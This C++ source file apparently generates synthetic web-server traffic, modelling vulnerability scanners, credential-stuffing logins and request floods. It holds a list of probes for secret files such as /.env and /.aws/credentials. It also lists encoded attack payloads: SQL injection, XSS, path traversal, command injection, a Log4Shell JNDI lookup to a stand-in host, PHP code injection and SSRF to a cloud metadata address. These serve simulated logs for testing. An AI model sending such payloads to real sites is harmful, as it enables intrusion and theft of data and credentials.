// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/traffic/synth/attackers.h"

#include <algorithm>
#include <array>

namespace assay::traffic {
namespace {

constexpr std::array<std::string_view, 16> probes = {"/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/index.php",
    "/admin/", "/backup.zip", "/server-status", "/xmlrpc.php", "/cgi-bin/test.cgi", "/config.php.bak",
    "/actuator/health", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system",
    "/.aws/credentials", "/shell.php", "/HNAP1/"};
// Percent-encoded as tools send them.
constexpr std::array<std::string_view, 16> payloads = {"1%27%20OR%20%271%27=%271", "1%20UNION%20SELECT%20NULL,NULL--",
    "%3Cscript%3Ealert(1)%3C/script%3E", "..%2F..%2F..%2F..%2Fetc%2Fpasswd", "%3Bcat%20/etc/passwd",
    "1%20AND%20SLEEP(5)--", "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "%24%7Bjndi:ldap://probe.example/a%7D",
    "admin%27--", "%7Cid", "1)%20AND%20(SELECT%20COUNT(*)%20FROM%20users)%3E0", "%0d%0aSet-Cookie:probe=1",
    "php://filter/convert.base64-encode/resource=index", "%3C%3Fphp%20system(%27id%27)%3B%3F%3E",
    "1%20WAITFOR%20DELAY%20%270:0:5%27--", "http://169.254.169.254/latest/meta-data/"};
constexpr std::array<std::string_view, 6> parameters = {"id", "q", "file", "page", "url", "cat"};

int64_t milliseconds(double seconds)
{
    return std::max<int64_t>(1, static_cast<int64_t>(seconds * 1000));
}

std::string token(SynthRandom& random, size_t length)
{
    constexpr std::string_view letters = "abcdefghijklmnopqrstuvwxyz0123456789";
    std::string text;
    for (size_t i = 0; i < length; ++i)
        text += letters[random.below(letters.size())];
    return text;
}

} // namespace

std::string attackQuery(SynthRandom& random)
{
    std::string query = "?";
    query += parameters[random.below(parameters.size())];
    query += '=';
    query += std::to_string(random.below(1000));
    query += payloads[random.below(payloads.size())];
    return query;
}

Scanner::Scanner(const Visitor& visitor, const Site& site, uint64_t requests, double gap, SynthRandom random)
    : m_visitor(visitor)
    , m_site(site)
    , m_left(requests)
    , m_gap(gap)
    , m_random(random)
{
}

std::optional<int64_t> Scanner::step(int64_t now, Stage& stage)
{
    Click click;
    const double what = m_random.uniform();
    if (what < 0.45) {
        click.path = probes[m_random.below(probes.size())];
        click.status = m_random.chance(0.2) ? 403 : 404;
        click.bytes = 512;
    } else {
        const Site::Page& page = m_site.pages()[m_site.anyPage(m_random)];
        click.path = what < 0.7 ? "/search" : page.path;
        click.query = attackQuery(m_random);
        const double answer = m_random.uniform();
        click.status = answer < 0.5 ? 200 : answer < 0.85 ? 403 : 500;
        click.bytes = click.status == 200 ? page.bytes : 480;
    }
    stage.send(m_visitor, now, std::move(click));
    if (--m_left == 0)
        return std::nullopt;
    return now + milliseconds(m_random.logNormal(m_gap, 0.3));
}

CredentialStuffer::CredentialStuffer(const Visitor& visitor, double gap, int64_t end, SynthRandom random)
    : m_visitor(visitor)
    , m_gap(gap)
    , m_end(end)
    , m_random(random)
    , m_opensForm(m_random.chance(0.5))
{
}

std::optional<int64_t> CredentialStuffer::step(int64_t now, Stage& stage)
{
    int64_t at = now;
    if (m_opensForm) {
        Click form;
        form.path = "/login";
        form.bytes = 3100;
        stage.send(m_visitor, at, std::move(form));
        at += m_random.between(300, 2500);
    }
    if (at >= m_end)
        return std::nullopt;
    const bool works = m_random.chance(0.01);
    Click sent;
    sent.method = "POST";
    sent.path = "/login";
    sent.referer = m_opensForm ? "/login" : "";
    sent.status = works ? 302 : 401;
    sent.bytes = works ? 0 : 640;
    stage.send(m_visitor, at, std::move(sent));
    const int64_t next = at + milliseconds(m_random.exponential(m_gap));
    return next < m_end ? std::optional<int64_t>(next) : std::nullopt;
}

Flooder::Flooder(const Visitor& visitor, const Site& site, double rate, double regular, int64_t end, SynthRandom random)
    : m_visitor(visitor)
    , m_site(site)
    , m_rate(rate)
    , m_regular(regular)
    , m_end(end)
    , m_random(random)
{
}

Click Flooder::next()
{
    const Site::Page& page = m_site.pages()[0];
    Click click;
    click.path = page.path;
    click.bytes = page.bytes;
    switch (m_visitor.kind) {
    case ActorKind::FloodQuery:
        click.query = "?" + token(m_random, 4);
        click.query += "=" + token(m_random, 8);
        break;
    case ActorKind::FloodPost:
        click.method = "POST";
        click.path = "/search";
        click.bytes = 2600;
        break;
    case ActorKind::FloodAgents: {
        const Site::Page& other = m_site.pages()[m_random.below(5)];
        click.path = other.path;
        click.bytes = other.bytes;
        click.userAgent = randomUserAgent(m_random);
        break;
    }
    default:
        break;
    }
    return click;
}

std::optional<int64_t> Flooder::step(int64_t now, Stage& stage)
{
    stage.send(m_visitor, now, next());
    const double gap = 1 / m_rate;
    const int64_t at = now + milliseconds(m_regular * gap + (1 - m_regular) * m_random.exponential(gap));
    return at < m_end ? std::optional<int64_t>(at) : std::nullopt;
}

} // namespace assay::traffic
